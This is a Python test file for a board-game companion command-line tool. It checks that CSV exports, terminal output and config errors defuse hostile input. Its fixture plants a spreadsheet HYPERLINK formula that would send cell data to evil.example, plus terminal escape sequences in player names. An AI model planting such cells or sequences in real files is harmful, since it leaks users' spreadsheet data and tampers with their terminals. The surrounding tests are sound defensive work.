"""Hostile input at the command line (issue 15, defects 9 and 10): CSV cells that a spreadsheet would run,
control characters in names printed on a terminal, and errors that were tracebacks (a huge game number,
a full disk, a folder where a file should be) now one line naming what was wrong, with nothing left behind."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from companion.history.export import csv_cell
from companion.terminal import json_text, shown
from tests.conftest import ROOT
from tests.history_support import run_headless
from tests.test_headless import SCRIPTED_GAME

# The scripted game's seats, renamed in the log as an older version (or another program) could have
# written them: formulas, terminal escape sequences, a bidi override and a zero-width space.
HOSTILE = {
    "Ann": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
    "Bob": "\x1b[31mBob\x1b]0;pwned\x07",
    "Cy": "+Cy\u202e\u200b@x",
}
RAW = ("\x1b", "\x07", "\u202e", "\u200b")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """A finished game whose players bear the HOSTILE names, written straight into the log's JSON."""
    db = tmp_path_factory.mktemp("hostile") / "games.sqlite3"
    run_headless(db, SCRIPTED_GAME)
    with sqlite3.connect(db) as con:
        for table, columns in (("commands", ("command", "events")), ("games", ("summary",))):
            for column in columns:
                rows = con.execute(f"SELECT id, {column} FROM {table} WHERE {column} IS NOT NULL").fetchall()
                for row_id, text in rows:
                    for old, new in HOSTILE.items():
                        text = text.replace(json.dumps(old), json.dumps(new))
                    con.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", (text, row_id))
    return db


def companion(*args, stdout=subprocess.PIPE, cwd: Path = ROOT) -> tuple[int, str, str]:
    proc = subprocess.run([sys.executable, "-m", "companion", *map(str, args)], stdout=stdout,
                          stderr=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(ROOT), "TZ": "UTC"},
                          cwd=cwd, timeout=120)
    out = proc.stdout.decode("utf-8", "replace") if proc.stdout is not None else ""
    return proc.returncode, out, proc.stderr.decode("utf-8", "replace")


def one_line_error(err: str) -> str:
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    return err.strip()


# --- CSV: no cell a spreadsheet runs ----------------------------------------------------------------


def test_csv_export_neutralises_every_formula_cell(hostile_db):
    code, out, err = companion("export", "--db", hostile_db, "--game", "1", "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA)]
    header, *moments = rows
    assert f"'{HOSTILE['Ann']}" in [r[header.index("player")] for r in moments]  # the name, kept whole
    assert f"'+Cy" in "".join(c for r in moments for c in r)
    keys = header.index(f"keys {HOSTILE['Ann']}")
    assert all(r[keys].isdigit() for r in moments)  # numbers stay numbers


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+33 6 12", "'+33 6 12"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Ann", "Ann"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (3, 3),  # numbers the companion writes as numbers are never texts
])
def test_a_csv_cell_starting_like_a_formula_is_a_text(value, cell):
    assert csv_cell(value) == cell


# --- terminal output: escapes, never control sequences ----------------------------------------------


@pytest.mark.parametrize("args", [[], ["--game", "1"], ["--stats"]])
def test_history_prints_no_control_character(hostile_db, args):
    code, out, err = companion("history", "--db", hostile_db, *args)
    assert code == 0, err
    assert not [c for c in RAW if c in out]
    assert "\\x1b[31mBob\\x1b]0;pwned\\x07" in out and "+Cy\\u202e\\u200b@x" in out


@pytest.mark.parametrize("command", [["history", "--json"], ["export", "--game", "1", "--format", "json"],
                                     ["export", "--game", "1", "--format", "bgstats"]])
def test_json_output_escapes_control_characters_and_keeps_the_names(hostile_db, command):
    code, out, err = companion(*command[:1], "--db", hostile_db, *command[1:])
    assert code == 0, err
    assert not [c for c in RAW if c in out]
    assert set(HOSTILE.values()) <= set(_strings(json.loads(out)))


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def test_shown_escapes_controls_bidi_zero_width_and_lone_surrogates():
    assert shown("a\x00b\x1b[2Jc\x9bd\u202ee\u200bf\ud800g\U000e0041") == \
        "a\\x00b\\x1b[2Jc\\x9bd\\u202ee\\u200bf\\ud800g\\U000e0041"
    assert shown("Zoé 🎲 l’île\tfin") == "Zoé 🎲 l’île\\x09fin"
    assert shown("two\nlines", lines=True) == "two\nlines"


def test_json_text_is_the_same_value_without_hidden_characters():
    value = {"n\u2028": ["\x1b", "\x7f", "\u200b\U000e0041", "é"]}
    text = json_text(value, indent=1)
    assert json.loads(text) == value and text.isascii() is False and "é" in text
    assert not [c for c in text if c in "\x1b\x7f\u200b\u2028\U000e0041"]


# --- tracebacks that are now one line ----------------------------------------------------------------


@pytest.mark.parametrize("command", ["history", "export"])
def test_a_game_number_too_big_for_the_log_is_no_game(hostile_db, command):
    extra = ["--format", "csv"] if command == "export" else []
    code, out, err = companion(command, "--db", hostile_db, "--game", "99999999999999999999999", *extra)
    assert code == 1 and out == ""
    assert one_line_error(err).startswith(f"companion {command}: --game: no game 99999999999999999999999 in ")


def test_export_to_a_full_disk_is_one_line(hostile_db):
    with open("/dev/full", "wb") as full:
        code, _, err = companion("export", "--db", hostile_db, "--game", "1", "--format", "json", stdout=full)
    assert code == 1
    assert one_line_error(err) == "companion export: cannot write the output: No space left on device"


def test_export_to_an_output_that_cannot_be_written_is_one_line(hostile_db, tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("")
    with open(target, "rb") as read_only:  # the shell's `1<out.csv`: an output opened for reading
        code, _, err = companion("export", "--db", hostile_db, "--game", "1", "--format", "csv", stdout=read_only)
    assert code == 1 and one_line_error(err) == "companion export: cannot write the output: Bad file descriptor"


def test_config_set_on_a_folder_is_refused_and_leaves_no_temporary_file(tmp_path):
    folder = tmp_path / "cfg"
    folder.mkdir()
    code, _, err = companion("config", "set", "--file", folder, "display.touch_rotation", "90")
    assert code == 2
    assert one_line_error(err) == (f"companion config: {folder}: is a folder, not a regular file: "
                                   "fix it or move it away first (nothing was written)")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cfg"]


def test_config_set_on_a_damaged_file_writes_nothing(tmp_path):
    path = tmp_path / "config.toml"
    original = b'hardware_profile = "pi5-7inch"\n# caf\xe9\n'
    path.write_bytes(original)
    code, _, err = companion("config", "set", "--file", path, "display.touch_rotation", "90")
    assert code == 2 and f"{path}:2: byte 0xe9" in one_line_error(err)
    assert path.read_bytes() == original and sorted(p.name for p in tmp_path.iterdir()) == ["config.toml"]


def test_config_set_on_a_toml_syntax_error_writes_nothing(tmp_path):
    path = tmp_path / "config.toml"
    path.write_text('hardware_profile = "pi5-7inch"\n[game\n', "utf-8")
    code, _, err = companion("config", "set", "--file", path, "game.language", "en")
    assert code == 2 and "not valid TOML" in one_line_error(err)
    assert path.read_text("utf-8").startswith('hardware_profile = "pi5-7inch"')


def test_config_set_under_a_file_names_the_path(tmp_path):
    (tmp_path / "plain").write_text("")
    code, _, err = companion("config", "set", "--file", tmp_path / "plain" / "c.toml", "display.touch_rotation", "90")
    assert code == 1 and one_line_error(err) == f"companion config: {tmp_path / 'plain'}: is a file, not a folder"


def test_say_into_a_folder_is_one_line_and_leaves_no_temporary_file(tmp_path):
    folder = tmp_path / "voice"
    folder.mkdir()
    code, _, err = companion("say", "Bonjour", "--engine", "silent", "--out", folder)
    assert code == 1 and one_line_error(err) == f"companion say: {folder}: is a folder, not a file"
    assert [p.name for p in tmp_path.iterdir()] == ["voice"] and not list(folder.iterdir())


def test_say_never_replaces_a_device(tmp_path):
    (tmp_path / "speaker").symlink_to("/dev/null")
    code, _, err = companion("say", "Bonjour", "--engine", "silent", "--out", tmp_path / "speaker")
    assert code == 1 and "is there and is not a regular file" in one_line_error(err)
    assert os.readlink(tmp_path / "speaker") == "/dev/null" and len(list(tmp_path.iterdir())) == 1


def test_say_refuses_a_text_over_its_limit(tmp_path):
    from companion.sound.cli import SAY_MAX_CHARS

    out = tmp_path / "long.wav"
    code, _, err = companion("say", "a" * (SAY_MAX_CHARS + 1), "--engine", "silent", "--out", out)
    assert code == 2 and one_line_error(err) == (
        f"companion say: the text has {SAY_MAX_CHARS + 1:,} characters; say speaks at most {SAY_MAX_CHARS:,} "
        "(four times the longest card of the packs)")
    assert not out.exists()


def test_say_limit_is_four_times_the_longest_text_of_the_packs():
    from companion.content import load_library
    from companion.sound.cli import SAY_MAX_CHARS
    from companion.sound.speech.prerender import deck_texts

    library = load_library()
    longest = max(len(t) for lang in ("fr", "en") for t in deck_texts(library, lang))
    assert 3 * longest < SAY_MAX_CHARS <= 5 * longest


def test_config_set_with_control_characters_writes_a_file_that_reads_back(tmp_path):
    from companion.config import load_config

    path = tmp_path / "config.toml"
    code, out, err = companion("config", "set", "--file", path, "audio.device", "USB\x1b[2J\x7f")
    assert code == 0, err
    assert "\x1b" not in out and "\\x1b[2J" in out
    config = load_config(path)
    assert config.problems == () and config.values["audio.device"] == "USB\x1b[2J\x7f"


def test_content_check_escapes_a_hostile_file_name(tmp_path, capsys):
    from companion.cli import main
    from tests.test_content_validate import write_pack

    pack = write_pack(tmp_path / "p\x1b]0;pwned\x07")
    (pack / "fr" / "riddles.toml").write_text("[[riddle]\n", "utf-8")
    assert main(["content", "check", "--dir", str(pack)]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "p\\x1b]0;pwned\\x07" in out


@pytest.mark.parametrize("text, why", [("[" * 3000 + "]" * 3000, "tables or lists nested too deeply"),
                                       ("9" * 5000, "an integer of 5,000 digits")])
def test_config_set_refuses_a_hostile_value_in_one_line(tmp_path, text, why):
    path = tmp_path / "config.toml"
    code, _, err = companion("config", "set", "--file", path, "audio.volume", text)
    assert code == 2 and one_line_error(err).startswith(f"companion config: audio.volume: {why}")
    assert not path.exists()
